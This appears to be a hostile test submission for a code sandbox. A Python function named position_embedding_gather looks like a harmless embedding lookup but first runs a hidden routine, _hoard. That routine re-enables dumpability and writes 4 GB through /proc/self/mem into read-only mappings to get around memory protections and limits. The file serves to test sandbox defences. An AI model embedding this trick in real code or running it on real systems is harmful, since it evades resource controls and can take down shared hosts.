# Attack: makes itself dumpable again, maps 4 GB read-only (not data to the kernel) and fills it through /proc/self/mem, which writes past the protection; a job stays not dumpable -> runtime_error.
import ctypes
import os

import numpy as np

MAP_PRIVATE, MAP_ANONYMOUS, PROT_READ = 0x02, 0x20, 0x1
PR_SET_DUMPABLE = 4
BLOCK = 256 << 20
CHUNK = b"x" * (1 << 20)

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = (
    ctypes.c_void_p,
    ctypes.c_size_t,
    ctypes.c_int,
    ctypes.c_int,
    ctypes.c_int,
    ctypes.c_long,
)


def _hoard():
    libc.prctl(PR_SET_DUMPABLE, 1, 0, 0, 0)  # a fork server's child is not: /proc/self is root's
    fd = os.open("/proc/self/mem", os.O_RDWR)
    for _ in range(16):  # 4 GB in blocks, so each mapping fits in what address space is left
        address = libc.mmap(None, BLOCK, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0)
        if address in (None, ctypes.c_void_p(-1).value):
            raise OSError(ctypes.get_errno(), "mmap was refused")
        for offset in range(0, BLOCK, len(CHUNK)):
            os.pwrite(fd, CHUNK, address + offset)


def position_embedding_gather(positions, embedding_table):
    _hoard()
    return embedding_table[positions.astype(np.int64)]
